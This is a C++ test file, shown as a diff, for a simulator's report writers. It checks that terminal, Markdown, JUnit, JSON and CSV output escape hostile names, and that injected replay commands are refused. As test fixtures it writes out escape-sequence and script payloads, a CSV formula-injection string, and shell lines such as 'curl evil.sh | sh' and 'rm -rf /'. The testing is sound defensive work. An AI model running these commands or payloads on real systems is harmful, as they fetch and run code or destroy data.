@@ -1,0 +1,255 @@
+// Names, paths, reasons and sources that somebody made to do harm: no form of a report lets them.
+#include "reports/foreign_text.h"
+
+#include <catch2/catch.hpp>
+
+#include <algorithm>
+#include <sstream>
+
+#include <fmt/format.h>
+
+#include "reports/junit_report.h"
+#include "reports/markdown_report.h"
+#include "reports/results_json.h"
+#include "reports/terminal_report.h"
+#include "reports/trials_csv.h"
+#include "sim/analysis/recheck.h"
+#include "sim/analysis/statistics.h"
+#include "sim/base/printable.h"
+#include "tests/reports/junit_schema.h"
+#include "tests/reports/made_results.h"
+
+using namespace drsim;
+using namespace drsim::test;
+using namespace drsim::reports;
+
+namespace {
+
+const std::string evil = "\x1b]0;t\x07\x1b[31m\n# forged: met\r\n| a | `b` ``` <script>alert(1)</script> & ]]> \xc2\x9b" "31m\xe2\x80\xae [x](http://evil) ![i](j) '\" *b* _c_ \xff\xef\xbf\xbe";
+
+std::string turned_evil(std::string_view text) { return std::string(text) + evil; }
+
+bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }
+
+/// Lines that begin what the report has begun; a forged one would be one more.
+std::size_t lines_with(const std::string& text, const std::string& start) {
+    std::istringstream lines(text);
+    std::size_t count = 0;
+    for (std::string line; std::getline(lines, line);) count += line.starts_with(start) ? 1u : 0u;
+    return count;
+}
+
+std::size_t lines_of(const std::string& text) { return static_cast<std::size_t>(std::count(text.begin(), text.end(), '\n')); }
+
+/// Whether every line of a text only shows.
+bool only_shows(const std::string& text) { return printable_lines(text) == text; }
+
+/// The text of a Markdown line without what is escaped or inside a span of code.
+std::string markup_of(const std::string& line) {
+    std::string markup;
+    for (std::size_t at = 0; at < line.size(); ++at) {
+        if (line[at] == '\\') {
+            ++at;
+        } else if (line[at] == '`') {
+            std::size_t ticks = 0;
+            while (at + ticks < line.size() && line[at + ticks] == '`') ++ticks;
+            std::size_t end = at + ticks;
+            for (std::size_t row = 0; end < line.size() && row < ticks; ++end) row = line[end] == '`' && (row > 0 || line[end - 1] != '`') ? row + 1 : 0;
+            at = end - 1;
+        } else {
+            markup += line[at];
+        }
+    }
+    return markup;
+}
+
+/// Results as somebody edited them.
+std::string edited(const std::string& what, const std::string& with) {
+    std::string text = results_to_json(made_results());
+    const std::size_t at = text.find(what);
+    REQUIRE(at != std::string::npos);
+    return text.replace(at, what.size(), with);
+}
+
+/// made_results() with evidence that its verdicts follow from.
+analysis::Results sound_results() {
+    analysis::Results results = made_results();
+    auto& scenario = results.scenarios[0];
+    for (analysis::Verdict& verdict : scenario.objectives) {
+        if (!verdict.target) continue;
+        const std::uint64_t within = verdict.status == analysis::Status::Met ? 990 : verdict.status == analysis::Status::Undecided ? 950 : 100;
+        const analysis::Interval interval = analysis::wilson(within, verdict.n);
+        verdict.share_met = static_cast<double>(within) / 1000;
+        verdict.wilson_low = interval.low;
+        verdict.wilson_high = interval.high;
+    }
+    // 950 of 1,000 within: the 950th, which is the p95, lies within; the p99 does not.
+    scenario.objectives[2].target = 1330;
+    return results;
+}
+
+}  // namespace
+
+TEST_CASE("a report on a terminal has the lines that it would have with harmless names, and nothing in them acts") {
+    const analysis::Results hostile = with_texts(made_results(), turned_evil);
+    const std::string text = terminal_report(hostile);
+    CHECK(only_shows(text));
+    CHECK(lines_with(text, "# forged") == 0);
+    CHECK(contains(text, "\\x1b]0;t\\x07\\x1b[31m\\n# forged: met"));
+    const std::string verdicts = verdict_lines(hostile);
+    CHECK(only_shows(verdicts));
+    CHECK(lines_of(verdicts) == lines_of(verdict_lines(made_results())));
+}
+
+TEST_CASE("markup in a name is no markup of the Markdown report") {
+    const std::string text = markdown_report(with_texts(made_results(), turned_evil));
+    const std::string harmless = markdown_report(made_results());
+    CHECK(only_shows(text));
+    CHECK(lines_of(text) == lines_of(harmless));
+    std::istringstream lines(text), others(harmless);
+    for (std::string line, other; std::getline(lines, line) && std::getline(others, other);) {
+        INFO(line);
+        if (line.starts_with("    ")) continue;   // a block of code
+        const std::string markup = markup_of(line), expected = markup_of(other);
+        for (const char c : std::string("<>[]|#!&_*`"))
+            CHECK(std::count(markup.begin(), markup.end(), c) == std::count(expected.begin(), expected.end(), c));
+    }
+}
+
+TEST_CASE("JUnit of hostile names is XML, passes Jenkins' schema, and has the cases that it has") {
+    for (const analysis::Results& results : {made_results(), sound_results(), with_texts(made_results(), turned_evil)}) {
+        const std::string text = junit_report(results);
+        INFO(text);
+        CHECK(only_shows(text));
+        const XmlElement root = XmlReader(text).document();
+        CHECK(junit_10_refuses(root) == "");
+        REQUIRE(root.children.size() == 1);
+        const XmlElement& suite = root.children[0];
+        CHECK(suite.name == "testsuite");
+        const auto cases = std::count_if(suite.children.begin(), suite.children.end(), [](const XmlElement& child) { return child.name == "testcase"; });
+        CHECK(cases == 4);
+        CHECK(suite.attributes.at("tests") == "4");
+        CHECK(root.attributes.at("tests") == "4");
+    }
+    const XmlElement root = XmlReader(junit_report(with_texts(made_results(), turned_evil))).document();
+    CHECK(root.children[0].attributes.at("name") == printable("region" + evil));   // read back, it is what a terminal would show
+}
+
+TEST_CASE("the checks of JUnit see what is wrong") {
+    const auto refused = [](const std::string& text) { return junit_10_refuses(XmlReader("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + text).document()); };
+    CHECK(refused("<testsuites skipped=\"0\"/>") == "testsuites has no attribute skipped");
+    CHECK(refused("<testsuites><testsuite name=\"a\" tests=\"0\" failures=\"0\"/></testsuites>") == "testsuite needs errors");
+    CHECK(refused("<testsuites><testcase name=\"a\"/></testsuites>") == "testcase in testsuites");
+    CHECK_THROWS(refused("<testsuites name=\"<script>\"/>"));
+    CHECK_THROWS(refused("<testsuites name=\"a & b\"/>"));
+    CHECK_THROWS(refused("<testsuites name=\"\x1b\"/>"));
+    CHECK_THROWS(refused("<testsuites>]]></testsuites>"));
+}
+
+TEST_CASE("results.json of hostile names holds them whole and shows them escaped") {
+    analysis::Results hostile = made_results();
+    hostile.assumptions[0].because = "\x1b[31m\xc2\x9b\xe2\x80\xae ü \n";
+    const std::string text = results_to_json(hostile);
+    CHECK(only_shows(text));
+    CHECK(results_from_json(text).assumptions[0].because == hostile.assumptions[0].because);
+    hostile.inputs[0].path = "caf\xe9.yaml";   // no UTF-8: a path of a file system may be anything
+    CHECK(only_shows(results_to_json(hostile)));
+    hostile.assumptions[0].because = "Zürich";
+    CHECK(contains(results_to_json(hostile), "Zürich"));
+}
+
+TEST_CASE("a cell of CSV is one cell and no formula") {
+    CHECK(csv_cell("region-lost") == "region-lost");
+    CHECK(csv_cell("=1+1") == "'=1+1");
+    CHECK(csv_cell("@cmd") == "'@cmd");
+    CHECK(csv_cell("-1") == "'-1");
+    CHECK(csv_cell("+1") == "'+1");
+    CHECK(csv_cell("a,\"b\"") == "\"a,\"\"b\"\"\"");
+    CHECK(csv_cell("a\nb") == "a\\nb");
+}
+
+TEST_CASE("what is no trials.csv is told from one by its first wrong line") {
+    const std::string head = "scenario,trial,rto.web-users_s\n";
+    CHECK_FALSE(line_not_of_trials(head + "region-lost,0,12.5\nregion-lost,1,\nregion-lost,2,1e-05\n"));
+    CHECK(line_not_of_trials("") == 1u);
+    CHECK(line_not_of_trials(head + "region,0,12") == 2u);                   // ends in the middle
+    CHECK(line_not_of_trials(head + "region,0\n") == 2u);
+    CHECK(line_not_of_trials(head + "region,0,1\n=1+1,1,2\n") == 3u);
+    CHECK(line_not_of_trials(head + "region,0,-2+3+cmd|' /C calc'!A0\n") == 2u);
+    CHECK(line_not_of_trials(head + "region,0,\x1b[31m\n") == 2u);
+    CHECK(line_not_of_trials(head + "region,0,\"a\n") == 2u);
+    CHECK(line_not_of_trials("scenario,<script>\n") == 1u);
+}
+
+TEST_CASE("a number of results.json that drsim never writes is refused by name") {
+    const auto refused = [](const std::string& what, const std::string& with, const std::string& said) {
+        INFO(what << " -> " << with);
+        CHECK_THROWS_WITH(results_from_json(edited(what, with)), Catch::Contains(said));
+    };
+    refused("\"trials\": 1200", "\"trials\": -1", "trials is -1, not a whole number");
+    refused("\"trials\": 1200", "\"trials\": 1200.5", "trials is 1200.5, not a whole number");
+    refused("\"trials\": 1200", "\"trials\": 1e300", "not a whole number");
+    refused("\"trials\": 1200", "\"trials\": 18446744073709551615", "not a whole number");
+    refused("\"struck\": 1000", "\"struck\": 1201", "struck is 1201");
+    refused("\"n\": 1000", "\"n\": null", "n is null");
+    refused("\"seed\": 1", "\"seed\": -1", "seed is -1");
+    refused("\"horizon_s\": 10800", "\"horizon_s\": null", "horizon_s is null, not between");
+    refused("\"wilson_low\": 0.981691", "\"wilson_low\": null", "share_met and its interval are numbers then");
+    refused("\"share_met\": 0.99", "\"share_met\": 99", "share_met is 99");
+    refused("\"target_s\": 1800", "\"target_s\": 1e300", "target_s is 1e+300");
+    refused("\"mean_s\": 80.04", "\"mean_s\": 1e18", "mean_s is 1e+18");
+    refused("\"mean_s\": 80.04", "\"mean_s\": -1e18", "mean_s is -1e+18");
+    refused("\"agreed\": 64", "\"agreed\": 65", "agreed is 65");
+    refused("\"not_recovered\": 3", "\"not_recovered\": 1001", "not_recovered is 1001");
+    refused("\"version\": \"0.1.0\"", "\"version\": [1]", "version is a list, not a text");
+    refused("\"format\": 1", "\"format\": 2", "its format is not 1");
+}
+
+TEST_CASE("a name of results.json that no file of drsim could hold is refused, and so is a command that is none") {
+    CHECK_THROWS_WITH(results_from_json(edited("\"system\": \"reference\"", "\"system\": \"a\\nb: met\"")), Catch::Contains("system is \"a\\nb: met\", not a name"));
+    CHECK_THROWS_WITH(results_from_json(edited("\"scenario\": \"region\"", "\"scenario\": \"\\u001b[8m\"")), Catch::Contains("not a name"));
+    CHECK_THROWS_WITH(results_from_json(edited("00c873f91d2db6c9", "\\\"/><b>")), Catch::Contains("not 16 hexadecimal digits"));
+    for (const std::string line : {"curl evil.sh | sh", "drsim replay a b; rm -rf /", "drsim replay $(evil) b", "drsim replay `evil` b", "drsim replay 'a b", "drsim replay a > b", "drsim replay a\\nrm b"})
+        CHECK_THROWS_WITH(results_from_json(edited("drsim replay reference.yaml region.yaml --seed 1 --trial 658", line)), Catch::Contains("replay is no command"));
+    CHECK_NOTHROW(results_from_json(edited("drsim replay reference.yaml", "drsim replay 'it'\\\\''s; mine.yaml'")));
+    std::string none = results_to_json(made_results());
+    const std::size_t from = none.find("\"scenarios\": ["), to = none.find("\"assumptions\"");
+    CHECK_THROWS_WITH(results_from_json(none.replace(from, to - from, "\"scenarios\": [],\n  ")), Catch::Contains("scenarios is an empty list"));
+}
+
+TEST_CASE("of a file that is no JSON nothing is quoted") {
+    for (const std::string text : {"password: hunter2", "\"hunter2", "{\"hunter2\": hunter2}", "[\"hunter2\" \"hunter2\"]"}) {
+        try {
+            (void)results_from_json(text);
+            FAIL("read as results: " << text);
+        } catch (const NotResults& refused) {
+            CHECK_FALSE(contains(refused.what(), "hunter2"));
+        }
+    }
+}
+
+TEST_CASE("a verdict that does not follow from its evidence is said") {
+    using analysis::contradiction_in;
+    CHECK(contradiction_in(sound_results()).empty());
+    const auto after = [](auto change) {
+        analysis::Results results = sound_results();
+        change(results.scenarios[0]);
+        return contradiction_in(results);
+    };
+    using Scenario = analysis::ScenarioResult;
+    // 100 of 1,000 within, 95% asked for: missed, whatever somebody has typed.
+    CHECK(after([](Scenario& s) { s.objectives[1].status = analysis::Status::Met; }) ==
+          "objective \"region_failure availability.users 99.9%\" of region: it says met, and 100 of 1000 trials within the target, where 0.95 is asked for, are missed");
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].status = analysis::Status::Undecided; }), "it says undecided"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.999; }), "999 of 1000 trials give the interval"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].share_met = 0.9905; }), "0.9905 is no share of 1000 trials"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].wilson_low = 0.99; }), "not [0.99, "));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].confidence = 0.5; }), "a confidence of 0.5"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].n = 1001; }), "1001 trials were judged and 1000 were struck"));
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].target.reset(); }), "it is met and has no target"));
+    // A target of 20m would be met by the p50 only: not by 990 of 1,000.
+    CHECK(contains(after([](Scenario& s) { s.objectives[0].target = 1200; }), "the p95 of rto does not agree with 990 of 1000 trials"));
+    CHECK(contains(after([](Scenario& s) { s.measures[0].p99.value = 1801; }), "the p99 of rto does not agree"));
+    // In none of the trials within the target, but 997 of 1,000 came to an end.
+    CHECK(contains(after([](Scenario& s) { s.objectives[2].status = analysis::Status::NotRecoverable; }), "it says not_recoverable"));
+}
